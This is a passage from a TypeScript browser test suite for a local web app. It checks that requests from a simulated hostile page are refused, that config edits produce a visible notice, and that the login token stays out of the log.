        count("/v1/sessions/:id", "GET"),
      ];
    };
    try {
      const before = await refused();
      const other = await page.context().newPage();
      await other.goto(`http://127.0.0.1:${evil.port}/`);
      await until("the refusals", async () => (await refused()).every((count, index) => count > (before[index] ?? 0)), 20_000);
      await other.close();
    } finally {
      await evil.stop(true);
    }
    expect(await laneText("agent")).not.toContain("from elsewhere");
  }, 60_000);

  test("a running org web takes an edit of org.config.json: the open room says what changed", async () => {
    await page.getByText(/· live ·/).waitFor();
    writeFileSync(join(room.workspace, "org.config.json"), JSON.stringify({ ...CONFIG, limits: { concurrencyPerServer: 3 } }));
    // Looked at every second, as the terminal room looks: the notice comes within a few.
    await page
      .getByText(/org\.config\.json changed \(limits\.concurrencyPerServer\): the room opens again on it before its next turn/)
      .waitFor({ timeout: 20_000 });
  }, 30_000);

  test("the login token never reaches the log", async () => {
    const token = new URL(room.loginUrl).searchParams.get("token") ?? "";
    expect(await room.stop()).not.toContain(token);
  }, 30_000);
});
